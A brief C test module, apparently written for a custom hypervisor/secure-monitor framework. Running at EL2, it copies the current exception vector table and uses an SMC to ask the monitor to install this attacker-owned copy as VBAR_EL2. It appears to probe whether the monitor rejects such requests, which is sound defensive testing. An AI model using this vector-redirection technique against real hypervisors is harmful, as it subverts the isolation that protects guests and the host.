/* Asks the monitor for a vector table of the attacker's own at EL2. Runs at EL2. */
#include <rw/sysreg.h>
#include <rw/tvmi_smc.h>
#include <rw/vmm_api.h>

static uint32_t vectors[RW_PAGE_SIZE / 4] __attribute__((aligned(RW_PAGE_SIZE)));

RW_MODULE_ENTRY int module_entry(const struct rw_vmm_api *api) {
  const uint32_t *original = (const uint32_t *)read_sysreg(VBAR_EL2);
  (void)api;
  for (unsigned i = 0; i < 0x800 / sizeof vectors[0]; i++) vectors[i] = original[i];
  return (int)rw_smc(RW_SMC_EL2_WRITE, RW_EL2_VBAR, (uint64_t)vectors, 0);
}
